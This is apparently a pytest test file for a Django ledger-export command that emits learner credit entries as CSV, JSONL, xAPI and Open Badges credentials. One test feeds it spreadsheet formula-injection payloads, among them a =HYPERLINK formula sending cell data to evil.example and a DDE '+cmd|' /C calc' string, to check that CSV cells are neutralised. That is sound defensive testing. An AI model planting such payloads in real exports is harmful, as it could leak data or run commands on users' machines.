"""
`learning-citizen export` with the membership filters, in every format, on the population of
conftest.py. Entries per learner in 2026, by hand: 10 (one per indicator), plus 1 when indicator
5 was split between the assessment and a course (2: 6+2, 11: 5+3), plus 1 reversal for 6.
"""
import csv
import io
import json
import sys

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from tests.commands import run
from tests.factories import credit_event
from xblocks.ledger import api
from xblocks.reports.exports import export_queryset, iterate, write_export
from xblocks.ledger.models import Entry
from xblocks.reports.xapi import statement_id

pytestmark = [pytest.mark.database, pytest.mark.django_db]


def exported_csv(*argv):
    code, out, err = run("export", "--format", "csv", *argv)
    assert code == 0, err
    return list(csv.DictReader(io.StringIO(out)))


def learners(rows):
    return sorted({row["anonymous_id"] for row in rows}, key=lambda name: int(name.split("-")[1]))


@pytest.mark.parametrize("filters, expected_learners, expected_rows", [
    (("--unit", "U1"), ["anon-1", "anon-5", "anon-8"], 30),
    (("--commune", "00002"), ["anon-8", "anon-9", "anon-10", "anon-11"], 41),           # 10 + 10 + 10 + 11
    (("--province", "02"), ["anon-12", "anon-13"], 20),
    (("--community", "C1"), ["anon-1", "anon-2", "anon-6"], 32),                        # 10 + 11 + 11
    (("--province", "01", "--unit", "U1"), ["anon-1", "anon-5", "anon-8"], 30),
    (("--province", "02", "--unit", "U1"), [], 0),                                      # filters narrow together
])
def test_membership_filters(population, filters, expected_learners, expected_rows):
    rows = exported_csv("--period", "2026", *filters)
    assert learners(rows) == expected_learners and len(rows) == expected_rows


def test_membership_filters_combine_with_the_others(population):
    rows = exported_csv("--period", "2026", "--unit", "U1", "--indicator", "5")
    # Indicator 5 of 1 (assessment 8), 5 (course 8), 8 (assessment 8).
    assert [(row["anonymous_id"], row["source_kind"], row["points"]) for row in rows] == [
        ("anon-1", "assessment", "8.00"), ("anon-5", "completion", "8.00"), ("anon-8", "assessment", "8.00")]
    assert learners(exported_csv("--period", "2025", "--unit", "S1")) == ["anon-7"]


def test_an_unknown_code_is_an_error_not_an_empty_file(population, tmp_path):
    code, out, err = run("export", "--unit", "ZZ", "--commune", "99", "-o", str(tmp_path / "out.csv"))
    assert code == 1 and out == ""
    assert "there is no unit with code ZZ" in err and "there is no commune with code 99" in err
    assert not (tmp_path / "out.csv").exists() and not (tmp_path / "out.csv.partial").exists()


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for your certificate")'


def test_csv_text_cells_cannot_become_formulas_and_points_stay_numbers():
    """Whatever a sender put in a course key (or usage key, or anonymous id), a spreadsheet shows it as text."""
    credited = api.append(credit_event(
        learner={"user_id": 77, "anonymous_id": "@SUM(1+1)"}, points=3, hours=1.5,
        source={"kind": "import", "course_key": HYPERLINK, "usage_key": "+cmd|' /C calc'!A0"})).entry
    api.reverse(credited, reason="=HYPERLINK(\"http://evil.example\")")
    code, out, err = run("export", "--format", "csv", "--period", "2026")
    assert code == 0, err
    credit, reversal = list(csv.DictReader(io.StringIO(out)))
    for row in (credit, reversal):
        assert row["course_key"] == "'" + HYPERLINK
        assert row["usage_key"] == "'+cmd|' /C calc'!A0"
        assert row["anonymous_id"] == "'@SUM(1+1)"
        assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for value in row.values())
    assert (credit["kind"], credit["points"], credit["hours"]) == ("credit", "3.00", "1.50")
    assert (reversal["kind"], reversal["points"], reversal["reverses"]) == ("reversal", "-3.00", credit["entry_id"])
    assert ",-3.00," in out.splitlines()[2]   # a bare number, neither quoted nor prefixed
    assert "reason" not in reversal           # a reversal's reason is not exported at all


def test_jsonl_keeps_text_as_it_was_sent():
    """JSON is read by programs, not spreadsheets: no apostrophe is added there."""
    api.append(credit_event(source={"kind": "import", "course_key": HYPERLINK, "usage_key": None}))
    code, out, _ = run("export", "--format", "jsonl", "--period", "2026")
    (document,) = [json.loads(line) for line in out.splitlines()]
    assert code == 0 and document["course_key"] == HYPERLINK and document["points"] == "4.00"


def test_jsonl(population):
    code, out, _ = run("export", "--format", "jsonl", "--period", "2026", "--province", "02")
    documents = [json.loads(line) for line in out.splitlines()]
    assert code == 0 and len(documents) == 20
    assert {document["anonymous_id"] for document in documents} == {"anon-12", "anon-13"}
    assert all("user_id" not in document and document["evidence"] == [] for document in documents)


def test_xapi_uses_the_ledgers_mapping_and_voids_reversals(population):
    code, out, _ = run("export", "--format", "xapi", "--period", "2026", "--community", "C1")
    statements = [json.loads(line) for line in out.splitlines()]
    assert code == 0 and len(statements) == 32
    earned = [s for s in statements if s["verb"]["id"] == "http://id.tincanapi.com/verb/earned"]
    voided = [s for s in statements if s["verb"]["id"] == "http://adlnet.gov/expapi/verbs/voided"]
    assert len(earned) == 31 and len(voided) == 1
    reversed_entry = Entry.objects.get(kind="reversal").reverses
    assert voided[0]["object"] == {"objectType": "StatementRef", "id": statement_id(reversed_entry.event_id)}
    assert {s["actor"]["account"]["name"] for s in earned} == {"anon-1", "anon-2", "anon-6"}
    assert len({s["id"] for s in statements}) == 32
    # The same export twice gives the same statements (ids included): an LRS keeps one of each.
    assert run("export", "--format", "xapi", "--period", "2026", "--community", "C1")[1] == out


def test_ob3_one_credential_per_recognised_learner(population):
    code, out, _ = run("export", "--format", "ob3", "--period", "2026", "--province", "01")
    credentials = [json.loads(line) for line in out.splitlines()]
    # Holders living in province 01: 1, 2, 3, 5, 8, 9, 11 (6 lost the title to a reversal).
    assert code == 0 and len(credentials) == 7
    subjects = [credential["credentialSubject"] for credential in credentials]
    assert [s["identifier"][0]["identityHash"] for s in subjects] == [f"anon-{n}" for n in (1, 2, 3, 5, 8, 9, 11)]
    assert all(credential["type"] == ["VerifiableCredential", "OpenBadgeCredential"] for credential in credentials)
    assert all(s["creditsEarned"] == 80.0 and s["term"] == "2026" for s in subjects)
    # Learner 2's evidence: all 11 of their 2026 entries, whatever filter chose them.
    assert len(credentials[1]["evidence"]) == 11
    # Same entries, same credential id; and a filter that picks fewer entries still gives the full figures.
    again = [json.loads(line) for line in run("export", "--format", "ob3", "--period", "2026", "--province", "01",
                                              "--indicator", "5")[1].splitlines()]
    assert [c["id"] for c in again] == [c["id"] for c in credentials]


def test_ob3_needs_a_period(population, tmp_path):
    code, _, err = run("export", "--format", "ob3", "-o", str(tmp_path / "badges.jsonl"))
    assert code == 1 and "the ob3 format needs a period" in err
    assert not list(tmp_path.iterdir())


def test_ob3_to_a_file_counts_credentials(population, tmp_path):
    code, _, err = run("export", "--format", "ob3", "--period", "2026", "--unit", "S1", "-o", str(tmp_path / "b.jsonl"))
    # S1: 7 (2025 only), 9 (holder), 10 (not): one credential.
    assert code == 0 and "Exported 1 credentials" in err
    assert len((tmp_path / "b.jsonl").read_text("utf-8").splitlines()) == 1


def test_pages_are_read_by_key_not_held_in_one_result(population):
    """Keyset pagination: ceil(rows / chunk) + 1 bounded SELECTs, and the same rows as one big page."""
    queryset = export_queryset("2026", province="02")
    with CaptureQueriesContext(connection) as queries:
        paged = [entry.pk for entry in iterate(queryset, chunk_size=6)]
    assert paged == list(queryset.values_list("pk", flat=True)) and len(paged) == 20
    selects = [query["sql"] for query in queries.captured_queries if "ledger_entry" in query["sql"]]
    assert len(selects) == 4 and all("LIMIT 6" in sql for sql in selects)   # 6 + 6 + 6 + 2
    out = io.StringIO()
    assert write_export(queryset, out, "jsonl", chunk_size=6) == 20


class Terminal(io.StringIO):
    def isatty(self):
        return True


def test_a_progress_bar_on_a_terminal(population, tmp_path, monkeypatch):
    err = Terminal()
    monkeypatch.setattr(sys, "stderr", err)
    from xblocks.cli import main  # pylint: disable=import-outside-toplevel
    assert main(["export", "--period", "2026", "--unit", "U1", "-o", str(tmp_path / "out.csv")]) == 0
    assert "30/30" in err.getvalue() and "entries" in err.getvalue()


def test_no_progress_bar_when_not_on_a_terminal(population, tmp_path):
    code, _, err = run("export", "--period", "2026", "--unit", "U1", "-o", str(tmp_path / "out.csv"))
    assert code == 0 and "30/30" not in err and err.strip() == f"Exported 30 entries to {tmp_path / 'out.csv'}."
